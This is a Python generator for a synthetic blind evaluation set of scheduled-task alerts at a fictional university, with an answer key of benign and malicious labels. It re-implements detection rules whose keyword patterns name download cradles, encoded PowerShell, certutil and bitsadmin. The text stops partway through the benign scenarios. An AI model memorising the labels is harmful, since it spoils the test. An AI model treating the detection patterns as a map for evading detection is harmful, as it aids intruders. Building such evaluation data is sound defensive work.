#!/usr/bin/env python3
"""Third blind evaluation set: two weeks of T1053 alerts at Fenmoor University (fenmoor.example).

Python 3 standard library only, no network, fixed seed: two runs give byte-identical files. Writes five
exports (Hayabusa JSONL, Elastic alerts NDJSON, Splunk ES notables as results XML, Sysmon for Linux syslog,
Kubernetes audit JSONL) and labels.csv (source_file,record_no,verdict,notes,scenario).
See README.md for the estate, the stories, the label rubric and the independence rules.
"""

import datetime as dt
import hashlib
import json
import os
import random
import sys
from xml.sax.saxutils import escape, quoteattr

HERE = os.path.dirname(os.path.abspath(__file__))
SEED_MAP = "/work/shared/research/lofp/seed_map.json"
ORG = "fenmoor"  # salt of every deterministic id
DOMAIN = "FENMOOR"
DNS = "fenmoor.example"
DOMAIN_SID = "S-1-5-21-2871630455-1190448213-3304958826"
TZ = dt.timezone(dt.timedelta(hours=-5))  # the SOC is on US Eastern standard time (EST) in January
START = dt.datetime(2028, 1, 10, 0, 0, tzinfo=TZ)  # Monday, first week of the spring term
rng = random.Random(20280110)

F_HAY = "blind3_hayabusa_triage.jsonl"
F_EL = "blind3_elastic_alerts.ndjson"
F_SPL = "blind3_es_notables.xml"
F_SYSL = "blind3_hpc_sysmon.log"
F_K8S = "blind3_k8s_audit.jsonl"
FILES = [F_HAY, F_EL, F_SPL, F_SYSL, F_K8S]


def hid(*parts, n=32):
    return hashlib.sha256("|".join((ORG,) + tuple(str(p) for p in parts)).encode()).hexdigest()[:n]


def guid(*parts):
    h = hid(*parts)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:32])


def at(day, hh, mm, ss=None):
    """Local time on day `day` (0 = Monday 2028-01-10), as aware UTC."""
    ss = rng.randrange(0, 60) if ss is None else ss
    t = START + dt.timedelta(days=day, hours=hh, minutes=mm, seconds=ss, milliseconds=rng.randrange(0, 1000))
    return t.astimezone(dt.timezone.utc)


def later(t, lo=1, hi=30):
    return t + dt.timedelta(seconds=rng.randrange(lo, hi), milliseconds=rng.randrange(0, 1000))


# ---------------------------------------------------------------------------------------------- estate
STAFF = ["fm-st-ws%04d" % n for n in range(101, 161)]
LAB = ["fm-lab-pc%03d" % n for n in range(201, 241)]
SERVERS = ["fm-dc-dc01", "fm-dc-dc02", "fm-dc-file01", "fm-dc-sql01", "fm-dc-sis01", "fm-dc-sis02",
           "fm-dc-print01", "fm-dc-rds01", "fm-dc-lic01", "fm-dc-cap01"]
JUMP = ["fm-it-jump01", "fm-it-jump02"]
MGMT = ["fm-it-bigfix01", "fm-it-awx01"]
LINUX_SYSMON = ["fm-hpc-login01", "fm-hpc-login02", "fm-lx-moodle01", "fm-lx-moodle02"]  # Sysmon → Splunk
LINUX_DEFEND = ["fm-lx-web01", "fm-lx-web02", "fm-lx-pgsql01", "fm-it-awx01", "fm-lx-gitlab01"]  # Elastic
SYSLOG_EXPORT = {"fm-hpc-login01", "fm-hpc-login02"}  # the raw Sysmon-for-Linux pull
CLUSTER_API = "172.24.8.10"
ADMINS = ["adm.jokafor", "adm.lbriggs", "adm.tvance", "adm.mhalloran"]
LINUX_ADMINS = ["jokafor", "rdasilva", "kpetrov"]  # their own accounts on Linux, sudo to root
FIRST = ["aabbott", "bcarvalho", "cdunleavy", "dfenwick", "egrayson", "fhollis", "gikeda", "hjablonski",
         "ikowal", "jlaurent", "kmbeki", "lnorquist", "moyelaran", "npatel", "oquarrie", "prasmussen",
         "qsolberg", "rtrinh", "sugwu", "tvillanueva", "uwexford", "vyoon", "wzeller", "xabernathy",
         "yblackwood", "zcastellano", "amcready", "bnakashima", "cosei", "dpfeiffer"]
OWNER = {h: FIRST[i % len(FIRST)] for i, h in enumerate(STAFF)}
STUDENTS = ["s%07d" % (2200000 + int(hid("student", i, n=5), 16) % 99999) for i in range(60)]
USERS = {}
IP = {}


def sid_of(name):
    short = name.split("\\")[-1].lower()
    if short in ("system", "nt authority\\system"):
        return "S-1-5-18"
    if short not in USERS:
        USERS[short] = 1200 + int(hid("rid", short, n=6), 16) % 9000
    return "%s-%d" % (DOMAIN_SID, USERS[short])


def ip_of(host):
    if host not in IP:
        n = int(hid("ip", host, n=4), 16)
        if host.startswith("fm-lab"):
            IP[host] = "10.61.%d.%d" % (20 + n % 8, 10 + n % 240)
        elif host.startswith("fm-st"):
            IP[host] = "10.60.%d.%d" % (32 + n % 16, 10 + n % 240)
        else:
            IP[host] = "172.24.%d.%d" % (1 + n % 6, 10 + n % 240)
    return IP[host]


def sensors(host):
    if host in STAFF:
        return {"elastic", "splunk"}
    if host in JUMP:
        return {"elastic", "splunk"}
    if host in SERVERS or host == "fm-it-bigfix01":
        return {"splunk", "hayabusa"}
    if host in LAB:
        return {"hayabusa"}
    if host in LINUX_SYSMON:
        return {"splunk", "syslog"} if host in SYSLOG_EXPORT else {"splunk"}
    if host in LINUX_DEFEND:
        return {"elastic"}
    raise ValueError(host)


# ---------------------------------------------------------------------------------------------- events
EVENTS = []
SCHTASKS = "C:\\Windows\\System32\\schtasks.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SVCHOST = "C:\\Windows\\System32\\svchost.exe"
SCHEDULE = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"
MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"
BES = "C:\\Program Files (x86)\\BigFix Enterprise\\BES Client\\BESClient.exe"
IME = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe"
SYSTEM = "NT AUTHORITY\\SYSTEM"


def ev(kind, t, host, user, verdict, cause, scenario, **kw):
    assert verdict in ("benign", "malicious")
    e = dict(kind=kind, t=t, host=host, user=user, verdict=verdict, cause=cause, scenario=scenario)
    e.update(kw)
    e["seq"] = len(EVENTS)
    EVENTS.append(e)
    return e


def proc(t, host, user, cmd, parent, pcmd, verdict, cause, scenario, image=SCHTASKS, integrity="High"):
    return ev("proc", t, host, user, verdict, cause, scenario, image=image, cmd=cmd, parent=parent, pcmd=pcmd,
              integrity="System" if user == SYSTEM else integrity)


def task(t, host, subject, name, command, args, run_as, verdict, cause, scenario, op="created", trigger="daily",
         level="LeastPrivilege", author=None):
    return ev("task", t, host, subject, verdict, cause, scenario, name=name, command=command, args=args,
              run_as=run_as, op=op, trigger=trigger, level=level, author=author or subject)


def run(t, host, user, image, cmd, verdict, cause, scenario, name=""):
    return ev("run", t, host, user, verdict, cause, scenario, image=image, cmd=cmd, name=name)


def lxproc(t, host, user, cmd, exe, parent_exe, pcmd, verdict, cause, scenario, cwd="/root"):
    return ev("lxproc", t, host, user, verdict, cause, scenario, exe=exe, cmd=cmd, parent=parent_exe, pcmd=pcmd,
              cwd=cwd)


def lxfile(t, host, user, path, exe, verdict, cause, scenario):
    return ev("lxfile", t, host, user, verdict, cause, scenario, exe=exe, path=path)


def k8s(t, user, verb, ns, name, verdict, cause, scenario, schedule="", image="", command=(), sa="default",
        ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", src="172.24.3.40", code=201, resource="cronjobs",
        groups=("system:authenticated",)):
    return ev("k8s", t, "", user, verdict, cause, scenario, verb=verb, ns=ns, name=name, schedule=schedule,
              image=image, command=list(command), sa=sa, ua=ua, src=src, code=code, resource=resource,
              groups=list(groups))


def q(s):
    return '"%s"' % s


# ---------------------------------------------------------------------------------------------- rule logic
def low(s):
    return (s or "").lower()


def has(s, *subs):
    s = low(s)
    return any(x.lower() in s for x in subs)


def has_all(s, *subs):
    s = low(s)
    return all(x.lower() in s for x in subs)


def is_schtasks(e):
    return e["kind"] == "proc" and low(e["image"]).endswith("\\schtasks.exe")


def sigma_proc(e):
    """SigmaHQ process_creation rules on a Sysmon 1 event (Hayabusa)."""
    c, out = e["cmd"], []
    if low(e["image"]).endswith("\\at.exe") and has(c, "interactive"):
        out.append("Interactive AT Job")
    if not is_schtasks(e):
        return out
    create = has(c, "/create")
    system_user = has(e["user"], "AUTHORI", "AUTORI")
    if has(c, " /create ") and not system_user:
        out.append("Scheduled Task Creation Via Schtasks.EXE")
    if has_all(c, " /create ", " /sc once ", "\\temp\\"):
        out.append("Suspicious Scheduled Task Creation Involving Temp Folder")
    if has(c, " /create ") and has(c, ":\\perflogs", ":\\windows\\temp", "\\appdata\\local\\", "\\appdata\\roaming\\",
                                  "\\users\\public", "%appdata%", "%public%") \
            and not has(c, "update_task.xml", "/create /tn tvinstallrestore /tr"):
        out.append("Suspicious Schtasks From Env Var Folder")
    sched = has(c, " onlogon ", " onstart ", " once ", " onidle ")
    privs = has(c, "nt aut", " system", "highest")
    if sched and not privs:
        out.append("Suspicious Schtasks Schedule Types")
    if sched and privs:
        out.append("Suspicious Schtasks Schedule Type With High Privileges")
    if has(c, " /change ", " /create ") and has(c, "/ru ") and has(c, "nt aut", " system "):
        out.append("Schtasks Creation Or Modification With SYSTEM Privileges")
    if has(c, "wscript", "vbscript", "cscript", "wmic ", "wmic.exe", "regsvr32.exe", "powershell", "\\appdata\\") \
            and has_all(c, "once", "00:00"):
        out.append("Uncommon One Time Only Scheduled Task At 00:00")
    if has(c, "/create "):
        p1 = has(c, "/sc minute ", "/ru system ")
        p2 = has(c, "cmd /c", "cmd /k", "cmd /r", "cmd.exe /c ", "cmd.exe /k ", "cmd.exe /r ")
        unc = has(c, " -decode ", " -enc ", " -w hidden ", " bypass ", " iex", ".downloaddata", ".downloadfile",
                  ".downloadstring", " -noni ", " -w hidden")
        an1 = has(c, ":\\programdata\\", ":\\temp\\", ":\\tmp\\", ":\\users\\public\\", ":\\windows\\temp\\",
                  "\\appdata\\roaming\\", "%appdata%", "%temp%", "%tmp%")
        an2 = has(c, "cscript", "curl", "wscript")
        if (p1 and p2) or unc or (an1 and an2):
            out.append("Suspicious Command Patterns In Scheduled Task Creation")
    if has(c, "/create ") and has(c, '/tn "{', "/tn '{", "/tn {") and has(c, '}"', "}'", "} "):
        out.append("Suspicious Scheduled Task Name As GUID")
    if create and has(c, "frombase64string", "encodedcommand") and has(c, "get-itemproperty", " gp ") \
            and has(c, "hkcu:", "hklm:", "registry::", "hkey_"):
        out.append("Scheduled Task Executing Encoded Payload from Registry")
    if low(e["parent"]).endswith(("\\powershell.exe", "\\pwsh.exe")) and has_all(c, "/create", "powershell.exe -noni",
                                                                                "/tn updater /tr") \
            and has(c, "/sc onlogon", "/sc daily /st", "/sc onidle", "/sc hourly"):
        out.append("HackTool - Default PowerSploit/Empire Scheduled Task Creation")
    return out


TASK_PATHS = ("\\appdata\\local\\temp\\", "\\appdata\\roaming\\", "\\users\\public\\", "\\windows\\temp\\",
              "c:\\temp\\", "\\desktop\\", "\\downloads\\", "\\temporary internet", "c:\\programdata\\",
              "c:\\perflogs\\")
TASK_CMDS = ("regsvr32", "rundll32", "cmd.exe</command>", "cmd</command>", "<arguments>/c ", "<arguments>/k ",
             "<arguments>/r ", "powershell", "pwsh", "mshta", "wscript", "cscript", "certutil", "bitsadmin",
             "bash.exe", "bash ", "scrcons", "wmic ", "wmic.exe", "forfiles", "scriptrunner", "hh.exe", "hh ")
SHELLS = ("powershell.exe", "wscript.exe", "cscript.exe", "cmd.exe", "sh.exe", "ksh.exe", "zsh.exe",
          "bash.exe", "scrcons.exe", "pwsh.exe")


def sigma_task(e):
    out = ["Task Created"] if e["op"] == "created" else ["Task Deleted"]
    content = low(task_xml(e))
    if e["op"] == "created" and any(p in content for p in TASK_PATHS) and any(c in content for c in TASK_CMDS):
        out.append("Suspicious Scheduled Task Creation")
    return out


LOLBIN_129 = ("\\calc.exe", "\\cscript.exe", "\\mshta.exe", "\\mspaint.exe", "\\notepad.exe", "\\regsvr32.exe",
              "\\wscript.exe")


def sigma_run(e):
    return ["Scheduled Task Executed Uncommon LOLBIN"] if low(e["image"]).endswith(LOLBIN_129) else []


def escu_proc(e):
    c, out = low(e["cmd"]), []
    name = low(e["image"]).rsplit("\\", 1)[-1]
    if name == "at.exe" and "\\\\" in c:
        out.append("Scheduled Task Creation on Remote Endpoint using At")
    if not is_schtasks(e):
        return out
    if "/create " in c and "/ru " in c and "system" in c:
        out.append("Windows Schtasks Create Run As System")
    if "/rl " in c and " highest " in c + " ":
        out.append("Windows Scheduled Task with Highest Privileges")
    if "create" in c and " /xml " in c:
        out.append("Windows Scheduled Task Created Via XML")
    if "/create" in c and "/s" in c:
        out.append("Schtasks scheduling job on remote system")
    if " /s " in c and "/run" in c:
        out.append("Scheduled Task Initiation on Remote Endpoint")
    if "/run" in c:
        out.append("Schtasks Run Task On Demand")
    if "delete" in c or "create" in c:
        out.append("Scheduled Task Deleted Or Created via CMD")
    if "shutdown" in c and "/create " in c:
        out.append("Schtasks used for forcing a reboot")
    if "/create" in c and has(c, "\\users\\public\\", "\\programdata\\", "windows\\temp"):
        out.append("Suspicious Scheduled Task from Public Directory")
    return out


SVCHOST_LOLBAS = {"regsvcs.exe", "ftp.exe", "rasautou.exe", "schtasks.exe", "xwizard.exe", "pnputil.exe",
                  "atbroker.exe", "mshta.exe", "bitsadmin.exe", "certoc.exe", "forfiles.exe", "msbuild.exe",
                  "bash.exe", "hh.exe", "cmstp.exe", "odbcconf.exe", "msdt.exe", "rundll32.exe", "regsvr32.exe",
                  "msiexec.exe", "wuauclt.exe", "wmic.exe", "runonce.exe", "installutil.exe", "netsh.exe",
                  "at.exe", "pcalua.exe", "regasm.exe"}


def escu_run(e):
    out = []
    if low(e["image"]).rsplit("\\", 1)[-1] in SVCHOST_LOLBAS:
        out.append("Svchost LOLBAS Execution Process Spawn")
    return out


def escu_task(e):
    if e["op"] == "created" and any(s in low(task_xml(e)) for s in SHELLS):
        return ["WinEvent Scheduled Task Created to Spawn Shell"]
    return []


def escu_linux(e):
    out = []
    if e["kind"] == "lxfile":
        p = e["path"]
        if p.startswith(("/etc/cron", "/var/spool/cron/")):
            out.append("Linux Add Files In Known Crontab Directories")
        if p.startswith(("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system",
                         "/run/systemd/system")) and p.endswith(".service"):
            out.append("Linux Service File Created In Systemd Directory")
        return out
    c = e["cmd"]
    name = e["exe"].rsplit("/", 1)[-1]
    if name == "crontab" and " -l" in c:
        out.append("Linux Adding Crontab Using List Parameter")
    if name == "crontab" and " -e" in c:
        out.append("Linux Edit Cron Table Parameter")
    if name in ("at", "atd") or e["parent"].rsplit("/", 1)[-1] in ("at", "atd"):
        out.append("Linux At Application Execution")
    if name in ("nano", "vim.basic", "vi", "vim") and has(c, "/etc/cron", "/var/spool/cron/", "/etc/anacrontab"):
        out.append("Linux Possible Cronjob Modification With Editor")
    if "echo" in c and has(c, "/etc/cron", "/var/spool/cron/", "/etc/anacrontab"):
        out.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
    if name in ("systemctl", "service") and has(c, "restart", "reload", "reenable"):
        out.append("Linux Service Restarted")
    if name in ("systemctl", "service") and has(" %s " % c, " start ", " enable "):
        out.append("Linux Service Started Or Enabled")
    return out


ELASTIC_SUSP_EXEC = {"cscript.exe", "wscript.exe", "powershell.exe", "cmd.exe", "mshta.exe", "rundll32.exe",
                     "regsvr32.exe", "msiexec.exe", "pwsh.exe", "certutil.exe", "msbuild.exe", "installutil.exe",
                     "regasm.exe", "regsvcs.exe", "cmstp.exe", "wmic.exe"}


def elastic_run(e):
    name = low(e["image"]).rsplit("\\", 1)[-1]
    c = low(e["cmd"])
    if name not in ELASTIC_SUSP_EXEC:
        return []
    if not has(c, "c:\\users\\", "c:\\programdata\\", "c:\\windows\\temp\\", "c:\\windows\\tasks\\", "c:\\perflogs\\",
               "c:\\intel\\"):
        return []
    if name == "powershell.exe" and has(c, " -file ", "-psconsolefile"):
        return []
    if e["user"] == SYSTEM and name == "msiexec.exe":
        return []
    return ["Suspicious Execution via Scheduled Task"]


def elastic_task(e):
    if e["user"].endswith("$") or e["user"] == SYSTEM:
        return []
    return ["A scheduled task was created"] if e["op"] == "created" else []


PKG_WRITERS = ("/usr/bin/dpkg", "/usr/bin/rpm", "/usr/bin/dnf", "/usr/bin/yum", "/usr/bin/apt", "/usr/bin/puppet")


def elastic_linux(e):
    if e["kind"] == "lxfile":
        p = e["path"]
        if e["exe"] in PKG_WRITERS or p.endswith((".swp", ".swx")) or p.startswith("/var/spool/cron/crontabs/tmp."):
            return []
        if p.startswith(("/etc/cron.d/", "/etc/cron.hourly/", "/etc/cron.daily/", "/etc/cron.weekly/",
                         "/etc/cron.monthly/", "/etc/crontab", "/var/spool/cron/", "/etc/cron.allow",
                         "/etc/cron.deny")):
            return ["Cron Job Created or Modified"]
        if p.startswith(("/etc/systemd/system/", "/usr/lib/systemd/system/", "/lib/systemd/system/")) \
                and p.endswith(".timer"):
            return ["Systemd Timer Created"]
        return []
    name = e["exe"].rsplit("/", 1)[-1]
    args = e["cmd"].split()
    if name == "crontab" and e["parent"].rsplit("/", 1)[-1] == "cron" and e["user"] != "root" \
            and not any(a in ("-l", "-r", "-e", "-help", "-h") for a in args):
        return ["Potential Persistence via Cron Job"]
    return []


def rules_for(e, tool):
    k = e["kind"]
    if tool == "hayabusa":
        return {"proc": sigma_proc, "task": sigma_task, "run": sigma_run}.get(k, lambda _: [])(e)
    if tool == "splunk":
        if k in ("lxproc", "lxfile"):
            return escu_linux(e)
        if k == "k8s":
            return ["Kubernetes Cron Job Creation"] if e["verb"] == "create" and e["resource"] == "cronjobs" \
                and e["code"] < 400 else []
        return {"proc": escu_proc, "task": escu_task, "run": escu_run}[k](e)
    if tool == "elastic":
        if k in ("lxproc", "lxfile"):
            return elastic_linux(e)
        return {"proc": lambda _: [], "task": elastic_task, "run": elastic_run}[k](e)
    return []


# ---------------------------------------------------------------------------------------------- label rubric
# Causes of benign activity:
#   install  a software installer (run by a user or by SYSTEM during a push)
#   updater  a vendor updater maintaining its own task
#   deploy   software pushed by Intune (Win32 app) or BigFix (fixlet)
#   mgmt     a management tool running an admin's script (Intune platform script, BigFix action, AWX job)
#   admin    interactive administrator work
#   auto     OS or application automation (tasks and jobs that run on their own)
#   pkg      a Linux package manager
#   cm       configuration management writing Linux files (Ansible from AWX)
#   gitops   Flux applying manifests from git / CI deploying with Helm
APPS = {"install", "updater", "deploy", "mgmt", "auto"}
SOFTWARE = {"install", "updater", "deploy"}
LINUX = {"admin", "auto", "pkg", "cm", "mgmt"}
ANY = {"install", "updater", "deploy", "mgmt", "admin", "auto", "pkg", "cm", "gitops"}


def appdata(e):
    return "\\appdata\\" in low(e.get("cmd", ""))


def temp_installer(e):
    return "\\temp\\" in low(e.get("parent", "")) or "\\temp\\" in low(e.get("pcmd", ""))


def onlogon(e):
    return " onlogon " in low(e.get("cmd", "")) + " "


NOTE_FIT = {
    "Scheduled Task Creation Via Schtasks.EXE": [(1, {"admin", "mgmt"}, None), (33, SOFTWARE, None)],
    "Suspicious Scheduled Task Creation Involving Temp Folder": [(1, {"admin", "mgmt"}, None), (33, SOFTWARE, None)],
    "Suspicious Schtasks From Env Var Folder": [(11, {"install", "deploy"}, lambda e: not appdata(e)),
                                                (35, SOFTWARE, appdata)],
    "Suspicious Schtasks Schedule Types": [(27, ANY, onlogon)],
    "Suspicious Schtasks Schedule Type With High Privileges": [(36, SOFTWARE, None)],
    "Uncommon One Time Only Scheduled Task At 00:00": [(33, SOFTWARE, None)],
    "Suspicious Command Patterns In Scheduled Task Creation": [(34, {"install", "deploy"}, temp_installer)],
    "Suspicious Scheduled Task Name As GUID": [(31, SOFTWARE | {"auto"}, None)],
    "Scheduled Task Executed Uncommon LOLBIN": [(17, ANY, None)],
    "Windows Schtasks Create Run As System": [(18, APPS - {"auto"}, None)],
    "Windows Scheduled Task with Highest Privileges": [(15, APPS - {"auto"}, None)],
    "Windows Scheduled Task Created Via XML": [(21, {"admin", "mgmt", "deploy"}, None)],
    "Schtasks scheduling job on remote system": [(42, {"admin", "mgmt"}, None)],
    "Scheduled Task Initiation on Remote Endpoint": [(7, {"admin", "mgmt"}, None)],
    "Schtasks Run Task On Demand": [(10, {"admin"}, None)],
    "Scheduled Task Deleted Or Created via CMD": [(41, {"admin", "mgmt", "deploy"}, None)],
    "Schtasks used for forcing a reboot": [(38, {"admin", "mgmt", "deploy"}, None)],
    "Suspicious Scheduled Task from Public Directory": [(37, ANY, None)],
    "Svchost LOLBAS Execution Process Spawn": [(24, APPS, None)],
    "WinEvent Scheduled Task Created to Spawn Shell": [(13, APPS, None)],
    "Linux Add Files In Known Crontab Directories": [(2, LINUX, None)],
    "Linux Adding Crontab Using List Parameter": [(4, LINUX, None)],
    "Linux Edit Cron Table Parameter": [(4, LINUX, None)],
    "Linux At Application Execution": [(4, LINUX, None)],
    "Linux Possible Cronjob Modification With Editor": [(5, LINUX, None)],
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": [(14, LINUX, None)],
    "Linux Service Restarted": [(5, LINUX, None)],
    "Linux Service Started Or Enabled": [(5, LINUX, None)],
    "Linux Service File Created In Systemd Directory": [(16, LINUX, None)],
    "A scheduled task was created": [(29, SOFTWARE, None)],
    "Suspicious Execution via Scheduled Task": [(30, APPS, None)],
    "Potential Persistence via Cron Job": [(32, ANY, None)],
}
NO_NOTE_RULES = {"Task Created", "Task Deleted", "Suspicious Scheduled Task Creation",
                 "Schtasks Creation Or Modification With SYSTEM Privileges", "Cron Job Created or Modified",
                 "Systemd Timer Created", "Kubernetes Cron Job Creation", "Interactive AT Job",
                 "Scheduled Task Executing Encoded Payload from Registry",
                 "HackTool - Default PowerSploit/Empire Scheduled Task Creation",
                 "Scheduled Task Creation on Remote Endpoint using At"}


def carried_notes():
    if not os.path.exists(SEED_MAP):
        return None
    with open(SEED_MAP) as f:
        seed = json.load(f)
    out = {}
    for i, s in enumerate(seed["sentences"], 1):
        for r in s["rules_t1053"]:
            out.setdefault(r["title"], set()).add(i)
    return out


def check_rubric():
    carried = carried_notes()
    if carried is None:
        return
    for rule, fits in NOTE_FIT.items():
        for n, _, _ in fits:
            if n not in carried.get(rule, set()):
                sys.exit("rubric: %s does not carry t1053-%02d" % (rule, n))


def notes_for(rule, e):
    if e["verdict"] != "benign" or rule not in NOTE_FIT:
        if rule not in NOTE_FIT and rule not in NO_NOTE_RULES and not rule.startswith("Kubernetes ") \
                and not rule.startswith("Linux-Sysmon"):
            sys.exit("rubric: unknown rule %s" % rule)
        return ""
    got = sorted({n for n, causes, cond in NOTE_FIT[rule] if e["cause"] in causes and (cond is None or cond(e))})
    return ";".join("t1053-%02d" % n for n in got)


# ---------------------------------------------------------------------------------------------- task XML
TRIGGERS = {
    "daily": "<CalendarTrigger><StartBoundary>2028-01-10T02:00:00</StartBoundary><Enabled>true</Enabled>"
             "<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>",
    "logon": "<LogonTrigger><Enabled>true</Enabled></LogonTrigger>",
    "boot": "<BootTrigger><Enabled>true</Enabled></BootTrigger>",
    "once": "<TimeTrigger><StartBoundary>2028-01-11T00:00:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>",
    "minute": "<TimeTrigger><Repetition><Interval>PT30M</Interval><StopAtDurationEnd>false</StopAtDurationEnd>"
              "</Repetition><StartBoundary>2028-01-10T09:00:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>",
}


def task_xml(e):
    run_as = e["run_as"]
    uid = "S-1-5-18" if run_as in ("SYSTEM", SYSTEM) else sid_of(run_as)
    logon = "ServiceAccount" if uid == "S-1-5-18" else "InteractiveToken"
    nl = "\r\n"
    args = "<Arguments>%s</Arguments>" % escape(e["args"]) if e["args"] else ""
    return nl.join([
        '<?xml version="1.0" encoding="UTF-16"?>',
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
        "  <RegistrationInfo><Date>%s</Date><Author>%s</Author><URI>%s</URI></RegistrationInfo>"
        % (e["t"].strftime("%Y-%m-%dT%H:%M:%S"), escape(e["author"]), escape(e["name"])),
        "  <Triggers>%s</Triggers>" % TRIGGERS[e["trigger"]],
        '  <Principals><Principal id="Author"><UserId>%s</UserId><LogonType>%s</LogonType><RunLevel>%s</RunLevel>'
        "</Principal></Principals>" % (uid, logon, e["level"]),
        "  <Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><Enabled>true</Enabled>"
        "<Hidden>false</Hidden></Settings>",
        '  <Actions Context="Author"><Exec><Command>%s</Command>%s</Exec></Actions>' % (escape(e["command"]), args),
        "</Task>"])


# ---------------------------------------------------------------------------------------------- stories
def days():
    return range(14)


def workday(d):
    return d % 7 < 5


def benign_windows():
    # Quillnote: per-user Inno Setup installer from %TEMP% registers its AppData updater task; the updater
    # re-registers it after each self-update.
    qn_hosts = rng.sample(STAFF, 10)
    for i, h in enumerate(qn_hosts):
        u = OWNER[h]
        t = at(rng.choice([0, 1, 2, 3, 4, 7, 8]), rng.randrange(9, 17), rng.randrange(60))
        upd = "C:\\Users\\%s\\AppData\\Local\\Quillnote\\QuillnoteUpdater.exe" % u
        tmp = "C:\\Users\\%s\\AppData\\Local\\Temp\\is-%s.tmp\\QuillnoteSetup-4.2.1.tmp" % (u, hid("is", h, n=5).upper())
        name = "QuillnoteUpdate-%s" % u
        cmd = 'schtasks.exe /Create /F /TN "%s" /TR "\\"%s\\" /silent" /SC DAILY /ST %02d:%02d' % (
            name, upd, rng.randrange(10, 16), rng.randrange(60))
        sc = "Quillnote per-user installer from %TEMP% registers its AppData updater task"
        proc(t, h, "%s\\%s" % (DOMAIN, u), cmd, tmp, '"%s" /SL5="$3012A,2841290,832512,QuillnoteSetup-4.2.1.exe"' % tmp,
             "benign", "install", sc, integrity="Medium")
        task(later(t), h, u, "\\" + name, upd, "/silent", u, "benign", "install", sc, author=u)
        if i % 2 == 0:
            t2 = at(rng.randrange(8, 14), rng.randrange(9, 17), rng.randrange(60))
            sc2 = "Quillnote updater re-registers its daily update task after a self-update"
            proc(t2, h, "%s\\%s" % (DOMAIN, u), cmd.replace("/SC DAILY", "/SC DAILY"), upd, '"%s" /silent' % upd,
                 "benign", "updater", sc2, integrity="Medium")
            task(later(t2), h, u, "\\" + name, upd, "/silent", u, "benign", "updater", sc2, author=u)
    # OneDrive per-user standalone updater task (registered by the user's OneDrive setup)
    for h in rng.sample(STAFF, 12):
        u = OWNER[h]
        t = at(rng.randrange(14), rng.randrange(8, 18), rng.randrange(60))
        rid = sid_of(u)
        task(t, h, u, "\\OneDrive Standalone Update Task-%s" % rid,
             "%%localappdata%%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "/reporting", u, "benign",
             "updater", "OneDrive per-user setup re-registers its standalone update task", author="Microsoft Corporation")
    # Citewell reference manager pushed by Intune (Win32 app, SYSTEM msiexec) registers an elevated watchdog
    for h in rng.sample(STAFF, 9):
        t = at(rng.choice([1, 2, 3]), rng.randrange(10, 15), rng.randrange(60))
        cmd = ('schtasks.exe /Create /RU SYSTEM /SC ONSTART /RL HIGHEST /TN "Citewell\\CitewellSync Watchdog" '
               '/TR "\\"C:\\Program Files\\Citewell\\cwsync.exe\\" --watchdog" /F')
        sc = "Intune Win32 app: Citewell MSI registers its elevated SYSTEM start-up watchdog"
        proc(t, h, SYSTEM, cmd, MSIEXEC, "C:\\Windows\\System32\\MsiExec.exe -Embedding 6C1F2E0B7A8D4B9C E Global\\MSI0000",
             "benign", "deploy", sc)
        task(later(t), h, "%s$" % h.upper(), "\\Citewell\\CitewellSync Watchdog", "C:\\Program Files\\Citewell\\cwsync.exe",
             "--watchdog", "SYSTEM", "benign", "deploy", sc, trigger="boot", level="HighestAvailable",
             author="Citewell Software")
    # Citewell's per-user Word add-in cache refresh: rundll32 on a DLL in AppData, started by the scheduler
    cw_users = rng.sample(STAFF, 6)
    for h in cw_users:
        u = OWNER[h]
        for d in rng.sample([d for d in days() if workday(d)], 3):
            run(at(d, 9, rng.randrange(0, 30)), h, "%s\\%s" % (DOMAIN, u), "C:\\Windows\\System32\\rundll32.exe",
                'rundll32.exe "C:\\Users\\%s\\AppData\\Local\\Citewell\\Addins\\cwword64.dll",RefreshCache' % u,
                "benign", "auto", "Citewell Word add-in cache refresh task runs rundll32 on its AppData DLL",
                name="\\Citewell\\Word Add-in Refresh %s" % u)
    # Intune platform script (admin's package) registers a VPN-profile check at logon
    for h in rng.sample(STAFF, 6):
        t = at(rng.choice([2, 3, 4]), rng.randrange(9, 17), rng.randrange(60))
        script = "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\%s_%s.ps1" % (
            guid("ime", "vpn"), guid("ime", "vpnpol"))
        cmd = ('"C:\\Windows\\system32\\schtasks.exe" /Create /TN "Fenmoor\\VPN Profile Check" /TR "powershell.exe '
               '-ExecutionPolicy Bypass -WindowStyle Hidden -File C:\\ProgramData\\Fenmoor\\Scripts\\vpncheck.ps1" '
               '/SC ONLOGON /RU SYSTEM /F')
        sc = "Intune platform script (IT's package) registers the VPN profile check at logon"
        proc(t, h, SYSTEM, cmd, PS, '"%s" -NoProfile -executionPolicy bypass -file "%s"' % (PS, script), "benign",
             "mgmt", sc)
        task(later(t), h, "%s$" % h.upper(), "\\Fenmoor\\VPN Profile Check", "powershell.exe",
             "-ExecutionPolicy Bypass -WindowStyle Hidden -File C:\\ProgramData\\Fenmoor\\Scripts\\vpncheck.ps1",
             "SYSTEM", "benign", "mgmt", sc, trigger="logon", author="FENMOOR\\adm.mhalloran")
    # LectureLoop lecture-capture agent pushed by BigFix to lecture-hall lab PCs and the capture server
    for h in rng.sample(LAB, 9) + ["fm-dc-cap01"]:
        t = at(rng.choice([0, 1]), rng.randrange(19, 23), rng.randrange(60))
        cmd = ('schtasks /create /tn "LectureLoop\\RecorderHealth" /tr "\\"C:\\Program Files\\LectureLoop\\llhealth.exe\\"" '
